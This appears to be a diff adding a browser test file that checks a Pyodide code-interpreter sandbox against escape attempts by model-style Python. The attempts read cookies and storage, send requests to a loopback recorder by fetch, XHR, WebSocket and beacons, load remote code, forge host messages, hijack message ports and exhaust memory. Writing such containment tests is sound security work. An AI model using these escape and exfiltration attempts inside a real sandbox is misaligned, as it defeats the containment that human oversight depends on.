@@ -1,0 +1,341 @@
+/**
+ * The code interpreter's sandbox in headless Chromium: Pyodide in a module worker inside an
+ * opaque-origin iframe with a strict CSP. Model-style Python tries every way out it can name; a
+ * loopback server (its own port, not the page's) records every request it receives and must see
+ * none. One page and one sandbox are shared across the file (a cold start is seconds); tests that
+ * kill the interpreter come after those that only read, and each checks the next run works.
+ */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { SandboxResult } from '../../src/sandbox/sandbox';
+import { launchBrowser, openPage, startVite } from './harness';
+
+const TIMEOUT_MS = 3000;
+
+let browser: Browser;
+let vite: Awaited<ReturnType<typeof startVite>>;
+let page: Page;
+let logs: string[];
+let loopback: Server;
+/** Every request the loopback server received: the sandbox must cause none. */
+const requests: string[] = [];
+let target: string;
+
+beforeAll(async () => {
+  loopback = createServer((req, res) => {
+    requests.push(`${req.method} ${req.url}`);
+    res.setHeader('Access-Control-Allow-Origin', '*');
+    res.end('exfiltrated');
+  });
+  await new Promise<void>((resolve) => loopback.listen(0, '127.0.0.1', resolve));
+  target = `127.0.0.1:${(loopback.address() as AddressInfo).port}`;
+  vite = await startVite();
+  browser = await launchBrowser();
+  ({ page, logs } = await openPage(browser, `${vite.url}/tests/browser/pages/sandbox.html`));
+  await page.waitForFunction(() => window.ready === true);
+});
+afterAll(async () => {
+  await browser?.close();
+  await vite?.server.close();
+  await new Promise((resolve) => loopback?.close(resolve));
+});
+afterEach(({ task }) => {
+  if (task.result?.state === 'fail') console.log(logs.join('\n'));
+});
+
+const run = (code: string, options: { timeoutMs?: number } = {}): Promise<SandboxResult> =>
+  page.evaluate(({ code, options }) => window.sandbox.run(code, options), { code, options });
+
+/** A blocked attempt: a clear error, nothing reached the loopback server, and the next run works. */
+async function expectContained(result: SandboxResult, error: RegExp): Promise<void> {
+  expect(result.error).toMatch(error);
+  await expectHealthy();
+}
+
+async function expectHealthy(): Promise<void> {
+  const after = await run('print(1)');
+  expect(after).toMatchObject({ stdout: '1\n', stderr: '', result: null, error: null });
+  // Give a late beacon or socket time to show up before declaring none arrived.
+  await new Promise((resolve) => setTimeout(resolve, 100));
+  expect(requests).toEqual([]);
+  const host = await page.evaluate(() => ({ cookie: document.cookie, stored: localStorage.getItem('secret'), url: location.pathname }));
+  expect(host).toEqual({ cookie: 'secret=1', stored: '1', url: '/tests/browser/pages/sandbox.html' });
+}
+
+describe('the Python sandbox', () => {
+  it('warm() starts the interpreter; a run after it is fast', async () => {
+    const m = await page.evaluate(async () => {
+      const t0 = performance.now();
+      await window.sandbox.warm();
+      const coldStartMs = performance.now() - t0;
+      const t1 = performance.now();
+      const first = await window.sandbox.run('print(1)');
+      const firstRunMs = performance.now() - t1;
+      const trips: number[] = [];
+      for (let i = 0; i < 10; i++) {
+        const t = performance.now();
+        await window.sandbox.run('print(1)');
+        trips.push(performance.now() - t);
+      }
+      trips.sort((a, b) => a - b);
+      return { coldStartMs, workerStartMs: window.sandbox.lastStartMs, first, firstRunMs, warmRoundTripMs: trips[5]! };
+    });
+    console.log(`[sandbox numbers] cold start (warm()) ${Math.round(m.coldStartMs)} ms (Pyodide inside the worker ${Math.round(m.workerStartMs!)} ms); first print(1) after warm() ${m.firstRunMs.toFixed(1)} ms; warm round trip print(1) median ${m.warmRoundTripMs.toFixed(1)} ms`);
+    expect(m.first).toMatchObject({ stdout: '1\n', stderr: '', result: null, error: null, stateLost: false, truncated: [] });
+    expect(m.firstRunMs).toBeLessThan(500);
+    expect(m.warmRoundTripMs).toBeLessThan(100);
+  });
+
+  it('a first call without warm() pays the cold start; a package URL that has no packages gives a clear error', async () => {
+    const m = await page.evaluate(async () => {
+      const frames = () => document.querySelectorAll('iframe');
+      const before = frames().length;
+      const sandbox = new window.PyodideSandbox({ packageBaseUrl: '/no-packages-here/' });
+      const t0 = performance.now();
+      const first = await sandbox.run('print(1)');
+      const firstCallMs = performance.now() - t0;
+      const csp = [...frames()].at(-1)?.srcdoc.match(/connect-src [^;]*/)?.[0];
+      const numpy = await sandbox.run('import numpy');
+      sandbox.dispose();
+      const afterDispose = await sandbox.run('print(1)');
+      return { first, firstCallMs, csp, numpy, afterDispose, framesLeft: frames().length - before };
+    });
+    console.log(`[sandbox numbers] first print(1) without warm() ${Math.round(m.firstCallMs)} ms`);
+    expect(m.first).toMatchObject({ stdout: '1\n', error: null });
+    expect(m.firstCallMs).toBeGreaterThan(300);
+    expect(m.csp).toBe(`connect-src ${vite.url}/pyodide/ ${vite.url}/no-packages-here/`);
+    expect(m.numpy.error).toMatch(/ModuleNotFoundError: No module named 'numpy'\nnumpy could not be loaded from the package URL http:\/\/127\.0\.0\.1:\d+\/no-packages-here\//);
+    expect(m.numpy.stderr).toMatch(/numpy/);
+    expect(m.afterDispose.error).toMatch(/disposed/);
+    expect(m.framesLeft).toBe(0);
+  });
+
+  it('the frame is an opaque-origin sandbox under a CSP that allows only the Pyodide files', async () => {
+    const frame = await page.evaluate(() => {
+      const iframe = document.querySelector('iframe')!;
+      let reachable = true;
+      try {
+        void iframe.contentWindow!.document;
+      } catch {
+        reachable = false;
+      }
+      return { sandbox: iframe.getAttribute('sandbox'), srcdoc: iframe.srcdoc, reachable };
+    });
+    expect(frame.sandbox).toBe('allow-scripts');
+    expect(frame.reachable).toBe(false);
+    const csp = /content="([^"]*)"/.exec(frame.srcdoc)![1]!;
+    expect(csp).toMatch(new RegExp(`^default-src 'none'; script-src 'nonce-[0-9a-f]{32}' ${vite.url}/pyodide/ 'wasm-unsafe-eval'; worker-src data:; connect-src ${vite.url}/pyodide/;`));
+    const wasm = await fetch(`${vite.url}/pyodide/pyodide.asm.wasm`, { headers: { Origin: 'null' } });
+    expect([wasm.headers.get('content-type'), wasm.headers.get('access-control-allow-origin')]).toEqual(['application/wasm', '*']);
+    await wasm.body?.cancel();
+  });
+
+  it('keeps Python state across runs', async () => {
+    expect(await run('x = 41')).toMatchObject({ result: null, error: null });
+    expect(await run('x + 1')).toMatchObject({ result: '42', error: null, stateLost: false });
+    expect(await run('print("a"); import sys; print("b", file=sys.stderr); {"k": [x]}')).toMatchObject({
+      stdout: 'a\n',
+      stderr: 'b\n',
+      result: "{'k': [41]}",
+    });
+    expect(await run('x + 1;')).toMatchObject({ result: null });
+  });
+
+  it('reports a traceback that starts at the model code', async () => {
+    const r = await run('def f():\n    return 1 / 0\nf()');
+    expect(r.error).toMatch(/^Traceback \(most recent call last\):\n {2}File "<exec>", line 3, in <module>/);
+    expect(r.error).toMatch(/ZeroDivisionError: division by zero$/);
+    expect(r.error).not.toMatch(/_pyodide|sandbox-runner/);
+    expect((await run('def (')).error).toMatch(/SyntaxError/);
+    expect((await run('input()')).error).toMatch(/Error/);
+  });
+
+  it('import numpy offline: an error that names numpy and how to configure a package URL', async () => {
+    const r = await run('import numpy as np\nnp.zeros(3)');
+    expect(r.error).toMatch(/ModuleNotFoundError: No module named 'numpy'/);
+    expect(r.error).toMatch(/numpy is not available offline.*packageBaseUrl/s);
+    expect((await run('import sklearn')).error).toMatch(/sklearn \(Pyodide package scikit-learn\) is not available offline/);
+    expect((await run('import no_such_module_anywhere')).error).not.toMatch(/offline/);
+    await expectHealthy();
+  });
+
+  it("cannot read the parent's DOM", async () => {
+    for (const code of ['import js\njs.parent.document.body', 'import js\njs.top.document', 'import js\njs.window.parent.document', 'from js import document\ndocument.body']) {
+      await expectContained(await run(code), /AttributeError|ImportError/);
+    }
+    expect(await page.evaluate(() => document.body.children.length)).toBe(2); // the page script and the sandbox frame
+  });
+
+  it("cannot read the page's cookies or storage", async () => {
+    await expectContained(await run('import js\njs.document.cookie'), /AttributeError: document/);
+    await expectContained(await run('import js\njs.localStorage.getItem("secret")'), /AttributeError: localStorage/);
+    await expectContained(await run('import js\njs.indexedDB.open("x")'), /SecurityError/);
+    await expectContained(await run('import js\nawait js.caches.keys()'), /SecurityError/);
+  });
+
+  it('cannot fetch from another server', async () => {
+    await expectContained(await run(`import js\nawait js.fetch("http://${target}/fetch")`), /Failed to fetch/);
+    await expectContained(
+      await run(`import js\nfrom pyodide.ffi import to_js\nawait js.fetch("http://${target}/no-cors", to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries))`),
+      /Failed to fetch/,
+    );
+    await expectContained(await run(`from pyodide.http import pyfetch\nawait pyfetch("http://${target}/pyfetch")`), /Failed to fetch/);
+  });
+
+  it('cannot send an XMLHttpRequest', async () => {
+    await expectContained(
+      await run(`import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "http://${target}/xhr", False)\nx.send()`),
+      /NetworkError/,
+    );
+  });
+
+  it('cannot open a WebSocket or an EventSource', async () => {
+    const wait = (ctor: string, url: string) =>
+      `import js, asyncio\nfrom pyodide.ffi import create_proxy\nc = js.${ctor}.new("${url}")\nf = asyncio.get_running_loop().create_future()\n` +
+      `c.addEventListener("error", create_proxy(lambda e: f.done() or f.set_result("error event")))\n` +
+      `c.addEventListener("open", create_proxy(lambda e: f.done() or f.set_result("open")))\nprint(await asyncio.wait_for(f, 2))`;
+    expect(await run(wait('WebSocket', `ws://${target}/ws`))).toMatchObject({ stdout: 'error event\n', error: null });
+    expect(await run(wait('EventSource', `http://${target}/sse`))).toMatchObject({ stdout: 'error event\n', error: null });
+    await expectHealthy();
+  });
+
+  it('cannot send an image beacon or navigator.sendBeacon', async () => {
+    await expectContained(await run(`import js\ni = js.Image.new()\ni.src = "http://${target}/img"`), /AttributeError: Image/);
+    await expectContained(await run(`import js\njs.navigator.sendBeacon("http://${target}/beacon", "x")`), /AttributeError: sendBeacon/);
+  });
+
+  it('cannot load code from elsewhere (importScripts, eval, workers, packages)', async () => {
+    await expectContained(await run(`import js\njs.importScripts("http://${target}/a.js")`), /importScripts/);
+    await expectContained(await run(`from pyodide.code import run_js\nrun_js("fetch('http://${target}/eval')")`), /EvalError.*Content Security Policy/s);
+    await expectContained(await run(`import js\njs.Worker.new("http://${target}/w.js")`), /SecurityError/);
+    // A nested data: worker inherits the policy: its fetch and import are refused too.
+    const nested = `import js, asyncio\nfrom pyodide.ffi import to_js\n` +
+      `js.Worker.new('data:text/javascript,fetch("http://${target}/nested");import("http://${target}/nested.js")', to_js({"type": "module"}, dict_converter=js.Object.fromEntries))\n` +
+      `await asyncio.sleep(0.5)\nprint("spawned")`;
+    expect(await run(nested)).toMatchObject({ stdout: 'spawned\n', error: null });
+    expect((await run(`import pyodide_js\nawait pyodide_js.loadPackage("http://${target}/x-1.0-py3-none-any.whl")`)).stdout).toMatch(/Failed to load/);
+    await expectHealthy();
+  });
+
+  it('cannot navigate or open windows', async () => {
+    const pages = browser.contexts().flatMap((c) => c.pages()).length;
+    await expectContained(await run(`import js\njs.location.href = "http://${target}/nav"`), /only a getter/);
+    await expectContained(await run(`import js\njs.open("http://${target}/open")`), /AttributeError: open/);
+    expect(browser.contexts().flatMap((c) => c.pages()).length).toBe(pages);
+  });
+
+  it('cannot create a nested iframe', async () => {
+    await expectContained(await run(`import js\nf = js.document.createElement("iframe")\nf.src = "http://${target}/frame"`), /AttributeError: document/);
+  });
+
+  it('cannot forge messages to the host; window messages are ignored', async () => {
+    const forge = `import js\nfrom pyodide.ffi import to_js\nconv = js.Object.fromEntries\n` +
+      `for i in range(1, 300):\n` +
+      `    js.postMessage(to_js({"type": "done", "id": i, "result": {"text": "'forged'", "dropped": 0}, "error": None, "missing": None, "dropped": {"stdout": 0, "stderr": 0}, "fatal": False}, dict_converter=conv))\n` +
+      `    js.postMessage(to_js({"type": "output", "id": i, "stream": "stdout", "text": "forged"}, dict_converter=conv))\n` +
+      `try:\n    js.parent.postMessage("forged", "*")\nexcept AttributeError as e:\n    print("no parent:", e)\n6 * 7`;
+    expect(await run(forge)).toMatchObject({ stdout: 'no parent: parent\n', result: '42', error: null });
+    const r = await page.evaluate(async () => {
+      const pending = window.sandbox.run('sum(range(2_000_000))');
+      for (let id = 1; id < 300; id++) {
+        const forged = { type: 'done', id, result: { text: "'forged'", dropped: 0 }, error: null, missing: null, dropped: { stdout: 0, stderr: 0 }, fatal: false };
+        window.postMessage(forged, '*');
+        window.postMessage({ type: 'output', id, stream: 'stdout', text: 'forged' }, '*');
+      }
+      return pending;
+    });
+    expect(r).toMatchObject({ stdout: '', result: String((2_000_000 * 1_999_999) / 2), error: null });
+    await expectHealthy();
+  });
+
+  it("cannot reach the host's port by patching prototypes in the worker", async () => {
+    // Model code replaces what the runner would call on its port or on the port's events, hoping to
+    // be handed the port; every port it is handed gets forged results for the next 300 run ids.
+    const hijack = `import js\nfrom pyodide.ffi import create_proxy, to_js\nconv = js.Object.fromEntries\ncaught = []\n` +
+      `original = js.MessagePort.prototype.postMessage\n` +
+      `def forge(port):\n    if port is None or any(p == port for p in caught):\n        return\n    caught.append(port)\n` +
+      `    for i in range(1, 300):\n        original.call(port, to_js({"type": "done", "id": i, "result": {"text": "'forged'", "dropped": 0}, "error": None, "missing": None, "dropped": {"stdout": 0, "stderr": 0}, "fatal": False}, dict_converter=conv))\n` +
+      `def post(this, *args):\n    forge(this)\n    return original.apply(this, to_js(list(args)))\n` +
+      `def data(this):\n    forge(this.target)\n    return None\n` +
+      `js.MessagePort.prototype.postMessage = create_proxy(post, capture_this=True)\n` +
+      `js.Object.defineProperty(js.MessageEvent.prototype, "data", to_js({"get": create_proxy(data, capture_this=True), "configurable": True}, dict_converter=conv))\n` +
+      `import asyncio\nawait asyncio.sleep(0)\n"patched"`; // Pyodide's own scheduler posts on a port
+    expect(await run(hijack)).toMatchObject({ result: "'patched'", error: null });
+    expect(await run('6 * 7')).toMatchObject({ result: '42', error: null });
+    expect(await run('print(2)')).toMatchObject({ stdout: '2\n', result: null, error: null });
+    expect(await run('len(caught) > 0')).toMatchObject({ result: 'True' }); // the patches were live
+    await expectHealthy();
+  });
+
+  it('while True: pass is killed at the timeout, the page keeps ticking, and the next run works', async () => {
+    await page.evaluate(() => window.sandbox.warm());
+    const { value, maxGapMs, ticks } = await page.evaluate(() => window.withTicks(() => window.sandbox.run('x = 1\nprint("started")\nwhile True:\n    pass')));
+    expect(value).toMatchObject({ stdout: 'started\n', error: 'timeout after 3s; the interpreter was restarted and its state was lost', stateLost: true });
+    expect(value.durationMs).toBeGreaterThanOrEqual(TIMEOUT_MS - 50);
+    expect(value.durationMs).toBeLessThan(TIMEOUT_MS + 1000);
+    expect(maxGapMs).toBeLessThan(500);
+    expect(ticks).toBeGreaterThan(TIMEOUT_MS / 50 / 2);
+    console.log(`[sandbox numbers] infinite loop killed after ${Math.round(value.durationMs)} ms; largest gap between 50 ms ticks ${Math.round(maxGapMs)} ms`);
+    expect((await run('x')).error).toMatch(/NameError/);
+    await expectHealthy();
+    expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(1);
+  });
+
+  it('an abort kills the run like a timeout', async () => {
+    const r = await page.evaluate(async () => {
+      await window.sandbox.warm();
+      const controller = new AbortController();
+      setTimeout(() => controller.abort(), 300);
+      const pending = window.sandbox.run('while True:\n    pass', { signal: controller.signal, timeoutMs: 60_000 });
+      return pending;
+    });
+    expect(r).toMatchObject({ error: 'aborted; the interpreter was restarted and its state was lost', stateLost: true });
+    expect(r.durationMs).toBeLessThan(1300);
+    await expectHealthy();
+  });
+
+  it('a fatal runtime error restarts the interpreter at once', async () => {
+    await page.evaluate(() => window.sandbox.warm());
+    const r = await run('import js, pyodide_js\npyodide_js._api.fatal_error(js.Error.new("boom"))');
+    expect(r.error).toMatch(/^the Python runtime failed \(Error: boom\); the interpreter was restarted and its state was lost$/);
+    expect(r.stateLost).toBe(true);
+    expect(r.durationMs).toBeLessThan(1000);
+    await expectHealthy();
+  });
+
+  it('10 MB of stdout is cut to the limit, quickly', async () => {
+    const r = await run('for i in range(100_000):\n    print("x" * 99)\n"done"', { timeoutMs: 20_000 });
+    console.log(`[sandbox numbers] 10 MB of stdout in ${Math.round(r.durationMs)} ms`);
+    expect(r).toMatchObject({ result: "'done'", error: null, stateLost: false, truncated: ['stdout'] });
+    expect(r.stdout.startsWith(`${'x'.repeat(99)}\n`.repeat(200))).toBe(true);
+    expect(r.stdout.endsWith('\n[… 9980000 more characters not shown]')).toBe(true);
+    expect(r.durationMs).toBeLessThan(10_000);
+    const one = await run('print("y" * 10_000_000)');
+    expect(one.stdout).toHaveLength(20_000 + '[… 9980001 more characters not shown]'.length + 1);
+    expect(one.truncated).toEqual(['stdout']);
+    expect((await run('"z" * 1_000_000')).truncated).toEqual(['result']);
+    await expectHealthy();
+  });
+
+  it('a memory bomb ends in a clear error and the next run works', async () => {
+    // 10**10 does not even fit wasm32's index size; 2**30 pointers do, but not in 4 GiB.
+    expect((await run("x = 'a' * 10**10")).error).toMatch(/OverflowError: cannot fit 'int' into an index-sized integer$/);
+    expect((await run('x = [0] * 2**30')).error).toMatch(/MemoryError$/);
+    await expectHealthy();
+    const growing = await run('def grow():\n    chunks = []\n    while True:\n        chunks.append(b"x" * (64 * 2**20))\ngrow()');
+    console.log(`[sandbox numbers] growing-list memory bomb ended after ${Math.round(growing.durationMs)} ms: ${growing.error?.split('\n').at(-1)}`);
+    expect(growing.error).toMatch(/MemoryError|timeout after 3s/);
+    await expectHealthy();
+  });
+
+  it('reset() clears the state', async () => {
+    expect(await run('y = 5\ny')).toMatchObject({ result: '5' });
+    await page.evaluate(() => window.sandbox.reset());
+    const r = await run('y');
+    expect(r.error).toMatch(/NameError: name 'y' is not defined/);
+    expect(r.stateLost).toBe(false);
+    await expectHealthy();
+  });
+});
